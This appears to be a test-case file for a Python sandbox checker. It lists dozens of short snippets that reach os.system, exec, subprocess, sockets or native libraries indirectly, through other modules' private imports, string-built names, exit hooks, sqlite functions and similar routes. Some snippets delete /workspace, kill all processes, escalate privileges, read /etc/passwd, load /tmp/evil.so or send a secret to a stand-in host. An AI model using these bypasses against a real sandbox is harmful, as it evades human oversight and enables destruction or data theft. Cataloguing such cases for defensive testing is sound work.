#--- random-os: os as a private name of random
import random
random._os.system("id")
#--- tempfile-os: os as a private name of tempfile
import tempfile
tempfile._os.popen("id").read()
#--- tempfile-shutil: shutil as a private name of tempfile
import tempfile
tempfile._shutil.rmtree("/workspace")
#--- logging-os: os as a public name of logging
import logging
logging.os.system("id")
#--- glob-os: os as a name of glob
import glob
glob.os.system("id")
#--- pathlib-os: os as a name of pathlib
import pathlib
pathlib.os.system("id")
#--- argparse-os: os as a private name of argparse
import argparse
argparse._os.system("id")
#--- inspect-os: os as a name of inspect
import inspect
inspect.os.system("id")
#--- uuid-os: os as a name of uuid
import uuid
uuid.os.system("id")
#--- zipfile-shutil: shutil as a name of zipfile
import zipfile
zipfile.shutil.rmtree("/workspace")
#--- gzip-builtins: builtins as a name of gzip
import gzip
gzip.builtins.exec("import os; os.system('id')")
#--- contextlib-os: os as a name of contextlib
import contextlib
contextlib.os.system("id")
#--- linecache-os: os as a name of linecache
import linecache
linecache.os.system("id")
#--- threading-os: os as a private name of threading
import threading
threading._os.system("id")
#--- unittest-main-os: two steps inside unittest
import unittest
unittest.loader.os.system("id")
#--- codecs-builtins: builtins as a name of codecs
import codecs
codecs.builtins.eval("__import__('os').system('id')")
#--- dataclasses-sys-modules: sys as a name of dataclasses
import dataclasses
dataclasses.sys.modules["os"].system("id")
#--- collections-sys-modules: sys as a private name of collections
import collections
collections._sys.modules["posix"].system("id")
#--- typing-sys-modules: sys as a name of typing
import typing
typing.sys.modules["os"].popen("id")
#--- enum-bltns: builtins under an odd name in enum
import enum
enum.bltns.eval("__import__('os').system('id')")
#--- asyncio-base-events-subprocess: subprocess inside asyncio
import asyncio
asyncio.base_events.subprocess.run(["id"])
#--- asyncio-base-events-socket: socket inside asyncio
import asyncio
asyncio.base_events.socket.create_connection(("192.0.2.1", 80))
#--- asyncio-events-os: os inside asyncio
import asyncio.events as ev
ev.os.system("id")
#--- concurrent-thread-os: os inside concurrent.futures
import concurrent.futures.thread as ct
ct.os.system("id")
#--- json-tool-path: sys inside json.tool
import json.tool
json.tool.sys.modules["os"].system("id")
#--- re-enum-sys: three steps from re
import re
re.enum.sys.modules["os"].system("id")
#--- warnings-sys: sys as a name of warnings
import warnings
warnings.sys.modules["os"].system("id")
#--- traceback-linecache-os: three steps from traceback
import traceback
traceback.linecache.os.system("id")
#--- fileinput-os-aliased: the attribute stored first
import fileinput
helper = fileinput.os
helper.system("id")
#--- from-random-private-os: imported as a name
from random import _os as rng
rng.system("id")
#--- from-glob-os-renamed: imported as another name
from glob import os as finder
finder.popen("id")
#--- from-tempfile-private-shutil: imported as a name
from tempfile import _shutil as paths
paths.rmtree("/workspace")
#--- getattr-random-os: the private name as text
import random
getattr(getattr(random, "_o" + "s"), "sys" + "tem")("id")
#--- vars-logging-os: the private name through vars
import logging
vars(logging)["os"].system("id")
#--- numpy-f2py-compile: a compiler run by numpy
import numpy.f2py
numpy.f2py.compile("end\n", modulename="m")
#--- numpy-ctypeslib: a native library through numpy
import numpy as np
np.ctypeslib.load_library("libc.so.6", "/lib")
#--- os-fork: a child process
import os
if os.fork() == 0:
    print("child")
#--- os-execlp: another program takes over
import os
os.execlp("sh", "sh", "-c", "id")
#--- os-spawnlp: a program beside this one
import os
os.spawnlp(os.P_NOWAIT, "sh", "sh", "-c", "id")
#--- os-kill-parent: stop the parent
import os
os.kill(os.getppid(), 9)
#--- os-killpg-all: stop everything
import os
os.kill(-1, 9)
#--- os-setuid: become root
import os
os.setuid(0)
os.setgid(0)
#--- os-chmod-setuid: a setuid bit
import os
os.chmod("tool", 0o4755)
#--- os-chroot: another root directory
import os
os.chroot("jail")
for _ in range(64):
    os.chdir("..")
os.chroot(".")
#--- os-mknod: a device file
import os
os.mknod("disk", 0o60660, os.makedev(8, 0))
#--- os-memfd-exec: a program in memory only
import os
fd = os.memfd_create("x", 0)
os.write(fd, open("tool", "rb").read())
os.execve(f"/proc/self/fd/{fd}", ["x"], {})
#--- os-symlink-out: a link that leaves the workspace
import os
os.symlink("/etc", "here")
print(open("here/passwd").read())
#--- os-putenv-preload: a library for later processes
import os
os.putenv("LD_PRELOAD", "/tmp/x.so")
#--- os-environ-preload: the same by assignment
import os
os.environ["LD_PRELOAD"] = "/tmp/x.so"
#--- os-ptsname-openpty: a terminal pair
import os
m, s = os.openpty()
os.dup2(s, 0)
os.dup2(s, 1)
#--- os-nice-sched: steal the processor
import os
os.setpriority(os.PRIO_PROCESS, 0, -20)
os.sched_setaffinity(0, range(os.cpu_count()))
#--- os-startfile: open with the desktop's program
import os
os.startfile("calc.exe")
#--- sys-settrace: see every frame
import sys
def tracer(frame, event, arg):
    frame.f_globals["__builtins__"]
    return tracer
sys.settrace(tracer)
#--- sys-setprofile: hook every call
import sys
sys.setprofile(lambda frame, ev, arg: print(frame.f_back))
#--- sys-addaudithook: hook the audit events
import sys
sys.addaudithook(lambda name, args: print(name, args))
#--- sys-excepthook: code to run at the end
import sys
sys.excepthook = lambda *a: __import__("os").system("id")
raise SystemError
#--- sys-displayhook-os: sys reached os by its modules
import sys
mods = sys.modules
key = [k for k in mods if k == "o" + "s"][0]
mods[key].system("id")
#--- sys-current-frames: frames of every thread
import sys
for tid, frame in sys._current_frames().items():
    print(tid, frame.f_locals, frame.f_back)
#--- atexit-system: a command at exit
import atexit, os
atexit.register(os.system, "id")
#--- weakref-finalize-system: a command when an object dies
import os, weakref
class A:
    pass
a = A()
weakref.finalize(a, os.system, "id")
del a
#--- exitstack-callback-system: a command when a block ends
import contextlib, os
with contextlib.ExitStack() as st:
    st.callback(os.system, "id")
#--- threading-timer-system: a command later
import os, threading
threading.Timer(0.1, os.system, ["id"]).start()
#--- sched-system: a command by the scheduler
import os, sched, time
s = sched.scheduler(time.time, time.sleep)
s.enter(0, 1, os.system, ("id",))
s.run()
#--- sqlite-create-function: a command as an SQL function
import os, sqlite3
db = sqlite3.connect(":memory:")
db.create_function("run", 1, os.system)
db.execute("select run('id')")
#--- sqlite-load-extension: a native library through sqlite
import sqlite3
db = sqlite3.connect(":memory:")
db.enable_load_extension(True)
db.load_extension("/tmp/evil.so")
#--- logging-dictconfig-factory: a callable named in a configuration
import logging.config
logging.config.dictConfig({
    "version": 1,
    "handlers": {"h": {"()": "os.system", "command": "id"}},
    "root": {"handlers": ["h"]},
})
#--- logging-config-listen: configuration from the network
import logging.config
t = logging.config.listen(9030)
t.start()
#--- webbrowser-open: a program through the browser helper
import webbrowser
webbrowser.open("http://example.invalid/?q=secret")
#--- platform-popen-os: os inside platform
import platform
platform.os.system("id")
#--- loop-run-in-executor-system: a command through the event loop
import asyncio, os
async def main():
    loop = asyncio.get_running_loop()
    await loop.run_in_executor(None, os.system, "id")
asyncio.run(main())
#--- loop-subprocess-shell: the loop's own process method
import asyncio
async def main():
    loop = asyncio.get_running_loop()
    await loop.subprocess_shell(asyncio.SubprocessProtocol, "id")
asyncio.run(main())
#--- loop-create-connection: the loop's own network method
import asyncio
async def main():
    loop = asyncio.get_running_loop()
    await loop.create_connection(asyncio.Protocol, "192.0.2.9", 25)
asyncio.run(main())
